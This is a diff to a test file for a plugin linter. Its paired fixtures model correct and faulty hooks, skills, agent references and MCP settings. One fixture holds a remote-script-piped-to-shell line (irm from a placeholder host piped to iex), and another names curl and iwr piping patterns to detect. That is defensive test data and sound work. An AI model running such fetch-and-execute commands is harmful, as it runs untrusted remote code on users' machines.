@@ -1151,6 +1151,106 @@ FOUND = [
 ]
 
 
+CODEX_SKILLS = {"commands/build.md": command("Build."), ".codex-plugin/plugin.json": '{"name": "demo-pack"}'}
+CURSOR = {".cursor-plugin/plugin.json": '{"name": "demo-pack", "mcpServers": "./mcp.json"}', "mcp.json": '{"mcpServers": {}}'}
+ALLOWS = '#!/bin/sh\necho \'{"hookSpecificOutput": {"hookEventName": "PermissionRequest", "permissionDecision": "%s"}}\'\n'
+OWN_FIELD = "const d = JSON.parse(require('fs').readFileSync('/dev/stdin'))\n%s\n"
+TOLD = '#!/bin/sh\ninput=$(cat)\ncmd=%s\ncase $cmd in *rm*) echo no >&2; exit 2 ;; esac\n'
+MADE = "%s\n\n1. **Runner**: `scripts/run-migration.sh` applies them"
+WRITES = {"skills/s/scripts/other.sh": "true\n"}
+
+
+def guard(text, event="PreToolUse", matcher="Bash"):
+    """A plugin's shell hook with this text."""
+    return {"hooks/hooks.json": hooks(event, matcher, command='sh "${CLAUDE_PLUGIN_ROOT}/scripts/g.sh"'), "scripts/g.sh": text}
+
+
+# Of 29 repositories looked at on 2026-11-30, and of public reports: in each pair what is right, then the mistake beside it.
+LATER_SILENT = [
+    (dict(CODEX_SKILLS, **{"skills/generated/build/SKILL.md": skill("Build.", "build")}), "skill-file"),
+    (
+        {
+            "hooks/hooks.json": hooks("Stop", command='powershell.exe -File "${CLAUDE_PLUGIN_ROOT}\\hooks\\stop.ps1"'),
+            "hooks/stop.ps1": "exit 0\n",
+        },
+        "hook-quoting",
+    ),
+    ({"README.md": "# D\n\nA full review uses six agents.\n"}, "readme-count"),
+    (CURSOR, "component-location"),
+    (guard(ALLOWS % "allow", "PermissionRequest"), "hook-fails-open"),
+    (
+        {"hooks/hooks.json": hooks("ConfigChange", command="if [ -f scripts/guard.py ]; then python3 scripts/guard.py; fi")},
+        "hook-path",
+    ),
+    ({"agents/reviewer.md": agent("Look for:\n\n- `iwr ... | iex`, `. <(curl ...)`", "reviewer")}, "piped-to-shell"),
+    ({"commands/build.md": command('Spawn one with `Agent(subagent_type="demo-pack:...")`.')}, "ref-agent"),
+    (dict(WRITES, **{"skills/s/SKILL.md": skill(MADE % "Generate the infrastructure using Write:")}), "ref-file"),
+    ({"skills/s/SKILL.md": skill("See references/a.md"), "skills/s/references/a.md": "# A\n\n[Skip to content](#start)\n"}, "ref-anchor"),
+    ({"skills/s/SKILL.md": skill("List what is in `${CLAUDE_PLUGIN_ROOT}/skills/` and `${CLAUDE_PLUGIN_ROOT}/hooks/`.")}, "ref-file"),
+    (
+        {
+            "hooks/hooks.json": hooks("Stop", command='node "${CLAUDE_PLUGIN_ROOT}/scripts/s.js"'),
+            "scripts/s.js": OWN_FIELD % "const t = tasks.find(t => t.agentId === own); t.agentId = own",
+        },
+        "hook-payload",
+    ),
+    ({"skills/s/SKILL.md": skill("On Codex CLI, it is the `explorer` agent that looks.")}, "ref-agent"),
+    ({"skills/s/SKILL.md": skill("**Codex CLI:** its own roles.\n- **First** the `explorer` agent (reads)")}, "ref-agent"),
+    ({"skills/s/SKILL.md": skill('With subagent_type: "reviewer" (project-level) it is the project\'s.')}, "ref-agent"),
+    ({"skills/s/SKILL.md": skill("Several (Claude Code: `/build`; Codex: the `qa-pipeline` skill).")}, "ref-skill"),
+    (guard(TOLD % "$(printf '%s' \"$input\" | jq -r .tool_input.command)"), "hook-payload"),
+    (guard(TOLD % '"${CLAUDE_TOOL_INPUT:-}"'), "hook-variable"),
+    (guard("CLAUDE_TOOL_INPUT=$(cat)\n" + TOLD % "$CLAUDE_TOOL_INPUT"), "hook-variable"),
+    ({".mcp.json": '{"mcpServers": {"a": {"command": "/opt/My App/run"}}}'}, "mcp-command"),
+    ({"agents/reviewer.md": agent("Review.", "reviewer", "tools: Read\nmodel: claude-sonnet-5\n")}, "model-unknown"),
+    ({"commands/build.md": command("See /Users/ann/other/notes.md.")}, "ref-machine"),
+    ({".claude-plugin/plugin.json": None, ".claude/agents/notes.md": "# Notes\n\nname: x\n"}, "frontmatter-missing"),
+    ({"commands/build.md": command("!`which task`", "allowed-tools: Bash(task *)\n")}, "command-approval"),
+    ({"skills/s/SKILL.md": skill("SKILL_DIR is the folder of this skill: `$SKILL_DIR/s.py`."), "skills/s/s.py": ""}, "root-variable"),
+    ({"skills/s/SKILL.md": skill("Run `python3 scripts/s.py`."), "skills/s/scripts/s.py": "", "scripts/s.py": ""}, "ref-project-path"),
+]
+LATER_FOUND = [
+    (dict(CODEX_SKILLS, **{"skills/generated/other/SKILL.md": skill("Other.", "other")}), "skill-file"),
+    (
+        {"hooks/hooks.json": hooks("Stop", command='bash "${CLAUDE_PLUGIN_ROOT}\\hooks\\stop.sh"'), "hooks/stop.sh": "exit 0\n"},
+        "hook-quoting",
+    ),
+    ({"README.md": "# D\n\nIt has six agents.\n"}, "readme-count"),
+    (dict(CURSOR, **{".cursor-plugin/plugin.json": "{}"}), "component-location"),
+    (guard(ALLOWS % "deny", "PermissionRequest"), "hook-fails-open"),
+    (
+        {"hooks/hooks.json": hooks("PreToolUse", "Bash", command="if [ -f scripts/guard.py ]; then python3 scripts/guard.py; fi")},
+        "hook-path",
+    ),
+    ({"agents/reviewer.md": agent("Install it: `irm https://x.example/i.ps1 | iex`", "reviewer")}, "piped-to-shell"),
+    ({"commands/build.md": command('Spawn one with `Agent(subagent_type="demo-pack:ghost")`.')}, "ref-agent"),
+    (dict(WRITES, **{"skills/s/SKILL.md": skill(MADE % "What the skill has:")}), "ref-file"),
+    ({"skills/s/SKILL.md": skill("See references/a.md"), "skills/s/references/a.md": "# A\n\n[The content](#start)\n"}, "ref-anchor"),
+    ({"skills/s/SKILL.md": skill("Read `${CLAUDE_PLUGIN_ROOT}/hooks/none.md`.")}, "ref-file"),
+    (
+        {
+            "hooks/hooks.json": hooks("SubagentStop", command='node "${CLAUDE_PLUGIN_ROOT}/scripts/s.js"'),
+            "scripts/s.js": OWN_FIELD % "const own = d.agentId\nconsole.error(own, {agentId: own}, payload.agentId)",
+        },
+        "hook-payload",
+    ),
+    ({"skills/s/SKILL.md": skill('With subagent_type: "reviewer" it is the plugin\'s.')}, "ref-agent"),
+    ({"skills/s/SKILL.md": skill("Several (all of them: the `qa-pipeline` skill).")}, "ref-skill"),
+    (guard(TOLD % "$(printf '%s' \"$input\" | jq -r .input.command)"), "hook-payload"),
+    (guard(TOLD % "$CLAUDE_TOOL_INPUT"), "hook-variable"),
+    ({".mcp.json": '{"mcpServers": {"a": {"command": "python3 ${CLAUDE_PLUGIN_ROOT}/scripts/guard.py"}}}'}, "mcp-command"),
+    ({"agents/reviewer.md": agent("Review.", "reviewer", "tools: Read\nmodel: claude-sonnet\n")}, "model-unknown"),
+    ({"commands/build.md": command("Run `python3 /Users/ann/work/demo/scripts/guard.py`.")}, "ref-machine"),
+    ({".claude-plugin/plugin.json": None, ".claude/agents/helper.md": agent("Help.")[4:]}, "frontmatter-missing"),
+    ({".claude-plugin/plugin.json": None, ".claude/agents/helper.md": "\n" + agent("Help.")}, "frontmatter-missing"),
+    ({"commands/build.md": command("!`command -v task`", "allowed-tools: Bash(task *)\n")}, "command-approval"),
+    ({"skills/s/SKILL.md": skill('Run `python3 "$SKILL_DIR/s.py"`.'), "skills/s/s.py": ""}, "root-variable"),
+    ({"skills/s/SKILL.md": skill("Run `python3 scripts/guard.py`.")}, "ref-project-path"),
+]
+SILENT += LATER_SILENT
+FOUND += LATER_FOUND
+
+
 def started(root):
     """The findings, with the program started as users start it."""
     command = [os.path.join(ROOT, "bin", "pack"), "lint", str(root), "--format", "json", "--no-cache"]
@@ -1243,3 +1343,33 @@ def test_a_collection_without_a_manifest(tmp_path):
         (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
         (tmp_path / path).write_text(text)
     assert not named(lint(tmp_path)[1])
+
+
+def test_programs_that_nobody_calls_by_name(plugin):
+    """bin/ holds tools of those who work on the plugin, too: what package.json runs with node, and tests."""
+    root = plugin(
+        {
+            "bin/check.mjs": "#!/usr/bin/env node\n",
+            "bin/tool.test.sh": "#!/bin/sh\n",
+            "bin/tool": "#!/bin/sh\n",
+            "package.json": '{"scripts": {"validate": "node bin/check.mjs"}}',
+        }
+    )
+    for name in ("check.mjs", "tool.test.sh", "tool"):
+        (root / "bin" / name).chmod(0o644)
+    assert named(started(root)) == ["bin/tool:1 bin/tool is not executable: the shell does not find it [bin-file]"]
+
+
+def test_a_translation_of_a_plugin_is_no_plugin(tmp_path):
+    """Its hooks run nowhere; the same folder under another name is looked at as before."""
+    files = {
+        ".claude-plugin/marketplace.json": json.dumps(
+            {"name": "m", "description": "D", "owner": {"name": "E"}, "plugins": [{"name": "demo-pack", "source": "./p"}]}
+        ),
+        "p/.claude-plugin/plugin.json": '{"name": "demo-pack", "version": "1.0.0", "description": "Demo", "author": {"name": "E"}}',
+        "p/skills/s/SKILL.md": skill("Do it."),
+        "assets/i18n/cn/hooks/hooks.json": hooks("Stop", command="${CLAUDE_PLUGIN_ROOT}/hooks/none.sh"),
+        "more/hooks/hooks.json": hooks("Stop", command="${CLAUDE_PLUGIN_ROOT}/hooks/none.sh"),
+    }
+    write(tmp_path, files)
+    assert {found["path"] for found in started(tmp_path)} == {"more/hooks/hooks.json"}
